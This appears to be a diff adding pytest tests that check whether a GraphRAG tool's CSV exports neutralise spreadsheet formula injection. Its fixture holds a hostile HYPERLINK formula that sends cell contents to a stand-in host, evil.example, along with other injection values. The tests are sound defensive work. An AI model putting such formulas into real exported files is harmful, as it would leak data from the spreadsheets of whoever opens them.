@@ -58,3 +58,90 @@ def test_a_condition_name_with_a_lone_surrogate_is_bad_input(capsys, index_dir: 
     )
     assert code == EXIT_USAGE, err
     assert "not valid Unicode" in err and "Traceback" not in err
+
+
+# -- CSV formula injection ------------------------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_cells(path: Path) -> list[str]:
+    """The cells of a CSV file a spreadsheet would run as a formula (numbers are data)."""
+    import csv
+
+    found = []
+    for row in csv.reader(path.open(encoding="utf-8", newline="")):
+        for cell in row:
+            if cell.startswith(FORMULA_STARTS):
+                try:
+                    float(cell)
+                except ValueError:
+                    found.append(cell)
+    return found
+
+
+@pytest.fixture
+def hostile_index_dir(tmp_path: Path) -> Path:
+    """The town index named like a formula, with a community id that is one."""
+    from graphrag_core.index import save_index
+    from graphrag_core.models import Community, Index
+
+    index = Index(
+        name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        communities=[
+            Community(id="r", level=0, title="Root", summary="Everything about the town and its valley."),
+            Community(id="@SUM(1+1)", level=1, parent_id="r", title="+Mill", summary="The mill employs most people."),
+            Community(id="=1+2", level=1, parent_id="r", title="-Beta", summary="The river floods every spring."),
+        ],
+    )
+    folder = tmp_path / "hostile"
+    save_index(index, folder)
+    return folder
+
+
+def test_every_cell_of_a_sweep_csv_is_data_not_a_formula(capsys, hostile_index_dir: Path, tmp_path: Path) -> None:
+    from graphrag_core.llm.scripted import ScriptedChatModel
+
+    def reply(request):  # type: ignore[no-untyped-def]
+        if request.purpose == "map":
+            return '{"answer": "-2+3 is the mill [Communities: @SUM(1+1)]", "usefulness": 70}'
+        return '{"answer": "=1+1 the mill [Communities: @SUM(1+1)]"}'
+
+    out = tmp_path / "sweep.csv"
+    code, _, err = run_cli(
+        capsys, "sweep", hostile_index_dir, QUESTION, "--levels", "leaf,0", "--seeds", "1", "--map-budgets", "8000,5",
+        "--out", out, "--no-store", "--no-cache", model=ScriptedChatModel(reply),
+    )
+    assert code == 0, err
+    text = out.read_text(encoding="utf-8")
+    assert "@SUM(1+1)" in text and "=1+2" in text  # the values are there, as text
+    assert formula_cells(out) == []
+
+
+def test_every_cell_of_the_evaluation_csvs_is_data_not_a_formula(capsys, hostile_index_dir: Path, tmp_path: Path) -> None:
+    questions = tmp_path / "q.jsonl"
+    questions.write_text('{"id": "@SUM(1)", "question": "=What shapes the town?"}\n', encoding="utf-8")
+    out = tmp_path / "report.md"
+    code, _, err = run_cli(
+        capsys, "eval", questions, "--index", hostile_index_dir, "--condition", "=X:level=0", "--condition", "+Y:level=1",
+        "--judge", "offline", "--model", "offline", "--eval-db", tmp_path / "e.sqlite3", "--no-store", "--no-cache", "--out", out,
+    )
+    assert code == 0, err
+    tables = sorted(tmp_path.glob("report.*.csv"))
+    assert [t.name for t in tables] == ["report.costs.csv", "report.judgments.csv", "report.win-rates.csv"]
+    assert "=X" in (tmp_path / "report.win-rates.csv").read_text(encoding="utf-8")
+    for table in tables:
+        assert formula_cells(table) == [], table.name
+
+
+def test_the_csv_helper_neutralises_text_and_keeps_numbers() -> None:
+    import csv
+    import io
+
+    from graphrag_core.csv_cells import csv_text
+
+    text = csv_text(["a", "b", "c", "d", "e", "f"], [["=1+1", "-1", -1, 2.5, "\tTAB", "plain - text"], ["@x", "+x", None, "\rCR", "", "ok"]])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == ["a", "b", "c", "d", "e", "f"]
+    assert rows[1] == ["'=1+1", "'-1", "-1", "2.5", "'\tTAB", "plain - text"]
+    assert rows[2] == ["'@x", "'+x", "", "'\rCR", "", "ok"]
